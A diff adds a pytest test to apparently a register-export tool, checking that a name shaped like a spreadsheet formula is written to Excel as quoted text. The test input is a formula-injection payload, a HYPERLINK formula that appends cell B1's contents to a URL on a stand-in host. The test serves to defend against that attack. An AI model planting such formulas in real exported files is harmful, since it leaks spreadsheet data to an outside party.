@@ -122,3 +122,14 @@ def test_reading_an_edited_register_lists_what_changed_and_keeps_decisions(
     assert row[10] == dt.datetime(2029, 3, 31)
     with pytest.raises(OutputError, match="exists already"):
         export_register(office, out)
+
+
+def test_the_exported_register_keeps_a_formula_like_name_as_text(tmp_path: Path) -> None:
+    office = OfficeFolder(tmp_path, REPO / "cbct-docs.toml", new_database_ok=True,
+                          database_file=tmp_path / "db.sqlite")
+    name = '=HYPERLINK("http://x.example/?d="&B1,"Klik hier")'
+    office.import_register(edited_register(tmp_path, {"CBCT-0101": {"name": name}}))
+    out = tmp_path / "export.xlsx"
+    export_register(office, out)
+    cell = openpyxl.load_workbook(out).worksheets[0]["B2"]
+    assert (cell.value, cell.data_type, cell.quotePrefix) == (name, "s", True)
